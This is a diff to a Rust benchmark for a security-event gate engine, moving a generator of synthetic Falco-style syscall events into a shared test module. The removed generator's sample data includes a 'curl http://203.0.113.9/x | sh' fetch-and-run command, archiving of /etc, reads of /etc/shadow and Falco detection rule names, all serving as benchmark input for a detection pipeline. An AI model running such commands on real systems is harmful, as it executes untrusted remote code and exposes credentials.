@@ -9,48 +9,12 @@ use kiln::gate::engine::scbe::{self, Scbe};
 use kiln::gate::engine::{Arena, Profile};
 use kiln::gate::run::{DryRun, Settings, Sink, Source, run};
 
+#[path = "../tests/support/gate_events.rs"]
+mod gate_events;
+
+use gate_events::NOW;
+
 const EVENTS: u64 = 100_000;
-
-/// 2026-11-20T11:00:00Z in nanoseconds since 1970.
-const NOW: i64 = 1_795_172_400_000_000_000;
-
-/// Falco-style lines of about 590 bytes: mostly ordinary, some suspicious, 2,000 processes on each of 40 hosts.
-fn events() -> Vec<u8> {
-    let mut seed = 7u64;
-    let mut pick = |list: &[&'static str]| {
-        // xorshift64: the same events each time.
-        seed ^= seed << 13;
-        seed ^= seed >> 7;
-        seed ^= seed << 17;
-        list[(seed >> 11) as usize % list.len()]
-    };
-    let mut out = Vec::with_capacity(60_000_000);
-    for i in 0..EVENTS {
-        let call = pick(&["execve", "openat", "openat", "openat", "write", "connect", "unlinkat", "rename", "ptrace"]);
-        let name = pick(&["nginx", "python3", "bash", "sshd", "postgres", "dpkg", "cron", "java", "tar", "curl"]);
-        let command = pick(&[
-            "nginx -g daemon off;",
-            "python3 -m http.server",
-            "curl http://203.0.113.9/x | sh",
-            "tar -czf /srv/b.tgz /etc",
-        ]);
-        let path = pick(&["/etc/shadow", "/var/log/syslog", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/home/a/.cache/x"]);
-        let rule = pick(&[
-            "Read sensitive file untrusted",
-            "Terminal shell in container",
-            "Kernel activity",
-            "Clear Log Activities",
-        ]);
-        let priority = pick(&["Informational", "Notice", "Warning", "Critical"]);
-        let (host, pid, time) = (i % 40, 1000 + i * 7 % 2000, NOW as u64 - 1_000_000_000 + i);
-        let line = format!(
-            r#"{{"hostname":"node-{host}","output":"10:59:59.{i:09}: {priority} event of {name} | file={path} evt_type={call} user=root user_uid=0 process={name} command={command} terminal=0","output_fields":{{"container.id":"host","container.name":"host","evt.time":{time},"evt.type":"{call}","fd.name":"{path}","proc.cmdline":"{command}","proc.exepath":"/usr/bin/{name}","proc.name":"{name}","proc.pid":{pid},"proc.pname":"systemd","proc.tty":0,"user.name":"root","user.uid":0}},"priority":"{priority}","rule":"{rule}","source":"syscall","tags":["host","container","maturity_stable"],"time":"2026-11-20T10:59:59.{i:09}Z"}}"#
-        );
-        out.extend_from_slice(line.as_bytes());
-        out.push(b'\n');
-    }
-    out
-}
 
 struct Nowhere;
 
@@ -92,7 +56,7 @@ fn bench<P: Profile>(c: &mut Criterion, name: &str, profile: &P, memory: impl Fn
 }
 
 fn gate(c: &mut Criterion) {
-    let input = events();
+    let input = gate_events::events(EVENTS);
     let host_default = || "linux-node".to_owned();
     let options =
         scbe::Options { host_default: host_default(), include_kernel_event: false, pretty: false, enforcement: None };
